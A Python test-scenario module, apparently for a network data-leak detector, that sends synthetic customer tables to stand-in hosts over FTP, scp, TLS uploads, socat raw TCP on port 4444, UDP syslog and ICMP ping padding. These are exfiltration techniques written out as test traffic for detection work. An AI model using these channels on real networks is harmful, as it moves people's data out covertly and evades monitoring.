"""Scenarios: files and raw streams: FTP, SSH, TLS, netcat, syslog, ping."""

import servers
from content import Lookalikes, customers, customers_file
from registry import Facts, scenario
from scenarios_web import CURL

FTP = {"app_proto": "ftp-data", "destination": "203.0.113.9", "user": "dana"}
LFTP_START = ("set net:timeout 10; set net:max-retries 2; set ftp:ssl-allow {tls}; set ssl:verify-certificate no; "
              "set ftp:passive-mode {passive}; set ftp:use-feat no; open -u dana,Winter2026 203.0.113.9; ")


def lftp(net, commands, tls="no", passive="yes"):
    net.office_do("lftp", "-c", LFTP_START.format(tls=tls, passive=passive) + commands, environment={"HOME": net.folder})


@scenario("ftp-passive")
def ftp_passive(net, record):
    """lftp to vsftpd, passive: STOR of two files, a RETR that comes in, and curl with APPE."""
    servers.ftp(net)
    net.write("customers.csv", customers_file(220, 301))
    net.write("orders.json", customers_file(90, 302, "json"))
    net.write("ftp/price-list.html", Lookalikes(303).page(12))
    record()
    lftp(net, "put customers.csv; put orders.json -o incoming.json; get price-list.html")
    net.office_do("curl", "-sS", "--max-time", "20", "-u", "dana:Winter2026", "--append", "-T",
                  net.write("more.csv", customers_file(50, 304)), "ftp://203.0.113.9/customers.csv")
    facts = Facts().leak(customers(220, 301), ["STOR customers.csv"], port=None, **FTP)
    facts.leak(customers(90, 302), ["STOR incoming.json"], port=None, **FTP)
    return facts.leak(customers(50, 304), ["APPE customers.csv"], port=None, **FTP)


@scenario("ftp-active")
def ftp_active(net, record):
    """lftp to vsftpd with PORT, then curl with EPRT: the server opens the data connection."""
    servers.ftp(net)
    net.write("customers.csv", customers_file(160, 311))
    second = net.write("second.csv", customers_file(110, 312))
    record()
    lftp(net, "put customers.csv", passive="no")
    net.office_do("curl", "-sS", "--max-time", "20", "-u", "dana:Winter2026", "-P", "10.20.0.7", "-T", second,
                  "ftp://203.0.113.9/eprt.csv")
    facts = Facts().leak(customers(160, 311), ["STOR customers.csv"], port=None, **FTP)
    return facts.leak(customers(110, 312), ["STOR eprt.csv"], port=None, **FTP)


@scenario("ftps")
def ftps(net, record):
    """lftp to vsftpd with AUTH TLS: control and data connection are encrypted."""
    servers.ftp(net, tls=True)
    net.write("customers.csv", customers_file(2200, 321))
    record()
    lftp(net, "set ftp:ssl-force yes; set ftp:ssl-protect-data yes; put customers.csv", tls="yes")
    return Facts().blind("tls", "203.0.113.9", None, 140_000)


@scenario("ssh")
def ssh(net, record):
    """scp of a table of 200 kB: encrypted, and said so."""
    servers.ssh(net)
    table = net.write("customers.csv", customers_file(2600, 331))
    record()
    net.office_do("scp", "-q", "-i", net.path("user"), "-o", "StrictHostKeyChecking=no", "-o",
                  "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR", table,
                  f"root@203.0.113.20:{net.path('inbox')}/")
    return Facts().blind("ssh", "203.0.113.20", 22, 180_000)


@scenario("tls")
def tls(net, record):
    """Uploads of 150 kB over TLS 1.3 and TLS 1.2, and over TLS on a port where nobody expects it."""
    servers.web(net, net.outside, "203.0.113.20:443 ssl", "203.0.113.20:8080 ssl")
    table = net.write("customers.csv", customers_file(2300, 341))
    record()
    facts = Facts()
    for port, version in ((443, ["--tlsv1.3"]), (443, ["--tls-max", "1.2"]), (8080, [])):
        net.office_do(*CURL, "-k", *version, "-T", table, f"https://vault.example.org:{port}/dav/customers.csv")
        facts.blind("tls", "203.0.113.20", port, 150_000, hostname="vault.example.org")
    return facts


@scenario("raw-tcp")
def raw_tcp(net, record):
    """A table through socat over plain TCP, on a port of no protocol and on port 443."""
    for port in (4444, 443):
        net.start(net.outside, ["socat", "-u", f"TCP-LISTEN:{port},bind=203.0.113.9", "OPEN:/dev/null"], port=port)
    record()
    facts = Facts()
    for port, seed in ((4444, 351), (443, 352)):
        net.office_do("socat", "-u", "-", f"TCP:203.0.113.9:{port},bind=10.20.0.7", text=customers_file(140, seed))
        facts.leak(customers(140, seed), ["tcp stream"], app_proto=None, port=port)
    return facts


@scenario("udp-syslog", suffix="pcapng")
def udp_syslog(net, record):
    """A program logs its customers with logger(1) to a syslog server outside: one datagram a line. Recorded by dumpcap
    as pcapng."""
    net.start(net.outside, ["socat", "-u", "UDP-RECV:514,bind=203.0.113.9", "OPEN:/dev/null"])
    table = customers(80, 361)
    lines = net.write("lines.txt", "".join(f"login of {row['email']} ticket {row['ticket']} called from {row['phone']}\n"
                                           for row in table))
    record()
    net.office_do("logger", "--server", "203.0.113.9", "--port", "514", "--udp", "--tag", "crm", "--file", lines)
    return Facts().leak(table, ["udp datagrams"], app_proto="syslog", port=514, within="flow")


@scenario("icmp-payload")
def icmp_payload(net, record):
    """Ticket numbers hidden in the padding of pings, one a ping."""
    table = customers(30, 371)
    record()
    for row in table:
        # `ping -p` repeats up to 16 bytes; the blank keeps one number apart from the next.
        net.office_do("ping", "-q", "-c", "1", "-s", "52", "-p", f" {row['ticket']} to".encode().hex(), "203.0.113.9")
    counts = {"email": 0, "ticket": 30, "phone": 0}
    return Facts().leak(table, ["icmp"], app_proto="icmp", port=None, values=counts, within="host")
